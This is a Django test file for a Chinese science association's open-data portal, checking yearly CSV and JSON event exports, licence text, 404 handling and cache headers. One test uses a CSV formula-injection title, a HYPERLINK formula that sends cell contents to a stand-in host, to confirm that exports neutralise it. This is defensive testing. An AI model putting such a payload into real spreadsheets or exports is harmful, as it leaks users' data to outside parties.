"""开放数据: CSV and JSON at a stable address per year, formula-safe, with the licence, nothing
personal, and cheap to serve again (ETag, cache headers)."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.utils import timezone

from association import opendata
from events.models import Event
from tests.events.factories import EventFactory, EventOutcomeFactory, PastEventFactory

pytestmark = pytest.mark.django_db
YEAR = timezone.localdate().year


def csv_rows(answer) -> list[list[str]]:
    body = answer.content
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel in Chinese"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def this_year(**kwargs):
    """An event earlier this year (whatever today's date)."""
    start = timezone.now().replace(month=1, day=2, hour=9, minute=0, second=0, microsecond=0)
    return EventFactory(start=start, end=start + timedelta(hours=2), **kwargs)


def last_year(**kwargs):
    start = timezone.now().replace(year=YEAR - 1, month=6, day=1, hour=9, minute=0, second=0, microsecond=0)
    return PastEventFactory(start=start, end=start + timedelta(hours=2), **kwargs)


def test_the_years_events_as_csv_with_their_outcomes_and_nothing_unpublished(client, tree):
    held = this_year(organiser=tree.county_a, title="科普进社区", status=Event.Status.FINISHED)
    EventOutcomeFactory(event=held, participants=150, beneficiaries=2000)
    this_year(organiser=tree.county_a, title="草稿中的活动", status=Event.Status.DRAFT)
    this_year(organiser=tree.county_a, title="取消了的活动", status=Event.Status.CANCELLED)
    answer = client.get(f"/open-data/{YEAR}/events.csv")
    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert f'filename="events-{YEAR}.csv"' in answer["Content-Disposition"]
    header, *rows = csv_rows(answer)
    assert header[:3] == ["编号", "活动名称", "活动类别"] and "受益人次" in header and "参与人数" in header
    assert [r[1] for r in rows] == ["科普进社区"]
    row = dict(zip(header, rows[0], strict=True))
    assert (row["主办单位"], row["参与人数"], row["受益人次"], row["状态"]) == ("华龙区科协", "150", "2000", "已结束")
    assert row["网页地址"].endswith(f"/events/{held.pk}/")


def test_a_title_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(client, tree):
    this_year(organiser=tree.county_a, title='=HYPERLINK("http://x.example/?"&B2,"点击")')
    this_year(organiser=tree.county_a, title="＋1 科普")
    this_year(organiser=tree.county_a, title="-2 度的实验")
    _header, *rows = csv_rows(client.get(f"/open-data/{YEAR}/events.csv"))
    titles = sorted(r[1] for r in rows)
    assert titles == sorted(["'=HYPERLINK(\"http://x.example/?\"&B2,\"点击\")", "'＋1 科普", "'-2 度的实验"])
    # JSON is no spreadsheet: the title as it is.
    document = client.get(f"/open-data/{YEAR}/events.json").json()
    assert '=HYPERLINK("http://x.example/?"&B2,"点击")' in {r["title"] for r in document["rows"]}


def test_json_carries_the_licence_and_the_column_headings(client, tree):
    EventOutcomeFactory(event=this_year(organiser=tree.society, title="学术年会", status=Event.Status.FINISHED),
                        participants=80)
    answer = client.get(f"/open-data/{YEAR}/events.json")
    assert answer["Content-Type"] == "application/json; charset=utf-8"
    document = json.loads(answer.content)
    assert document["dataset"] == "events" and document["year"] == YEAR and document["title"] == "活动及成效"
    assert document["licence"]["name"] == "CC BY 4.0"
    assert "使用时请注明来源：濮阳市科学技术协会" in document["licence"]["note"]
    assert {"key": "beneficiaries", "heading": "受益人次"} in document["columns"]
    (row,) = document["rows"]
    assert (row["title"], row["organiser"], row["participants"]) == ("学术年会", "濮阳市化工学会", 80)
    assert set(row) == {c["key"] for c in document["columns"]}


def test_each_year_has_its_own_stable_address_and_the_page_lists_it(client, tree):
    this_year(organiser=tree.county_a, title="今年的活动")
    last_year(organiser=tree.county_a, title="去年的活动")
    assert [r[1] for r in csv_rows(client.get(f"/open-data/{YEAR - 1}/events.csv"))[1:]] == ["去年的活动"]
    assert [r[1] for r in csv_rows(client.get(f"/open-data/{YEAR}/events.csv"))[1:]] == ["今年的活动"]
    page = client.get("/open-data/")
    assert page.status_code == 200
    html = page.content.decode()
    for address in (f"/open-data/{YEAR}/events.csv", f"/open-data/{YEAR - 1}/events.json",
                    "/open-data/organizations.csv", "/open-data/headline-figures.json"):
        assert f'href="{address}"' in html
    assert "本数据按 CC BY 4.0 开放，使用时请注明来源：濮阳市科学技术协会" in html
    assert 'href="/open-data/"' in client.get("/about/").content.decode()  # found from 关于我们 and the footer


@pytest.mark.parametrize("address", [
    f"/open-data/{YEAR + 1}/events.csv",  # a year to come
    f"/open-data/{opendata.FIRST_YEAR - 1}/events.json",  # before the portal's records
    "/open-data/events.csv",  # a yearly table without its year
    f"/open-data/{YEAR}/organizations.csv",  # the directory has no years
    f"/open-data/{YEAR}/nothing.csv",
    f"/open-data/{YEAR}/events.xlsx",
])
def test_an_address_that_means_nothing_is_a_404(client, address):
    assert client.get(address).status_code == 404


def test_the_organisation_directory_and_the_headline_figures(client, tree):
    header, *rows = csv_rows(client.get("/open-data/organizations.csv"))
    assert header == ["编号", "名称", "简称", "类别", "上级单位", "所在县（区）", "简介"]
    by_name = {r[1]: dict(zip(header, r, strict=True)) for r in rows}
    assert by_name["岳村镇科协"]["上级单位"] == "华龙区科协" and by_name["岳村镇科协"]["所在县（区）"] == "华龙区"
    figures = client.get("/open-data/headline-figures.json").json()
    assert figures["year"] is None and "不能按往年重新计算" in figures["description"]
    assert figures["rows"] and {"label", "value", "unit"} == set(figures["rows"][0])


def test_files_are_served_again_cheaply(client, tree, django_assert_num_queries):
    this_year(organiser=tree.county_a, title="今年的活动")
    first = client.get(f"/open-data/{YEAR}/events.csv")
    etag = first["ETag"]
    assert etag and "public" in first["Cache-Control"] and "max-age=" in first["Cache-Control"]
    with django_assert_num_queries(0):  # kept in the cache: made once, not per download
        again = client.get(f"/open-data/{YEAR}/events.csv")
    assert again.content == first.content and again["ETag"] == etag
    unchanged = client.get(f"/open-data/{YEAR}/events.csv", HTTP_IF_NONE_MATCH=etag)
    assert unchanged.status_code == 304 and unchanged.content == b""
    past = client.get(f"/open-data/{YEAR - 1}/events.csv")
    assert "max-age=86400" in past["Cache-Control"]  # a year that is over is kept longer
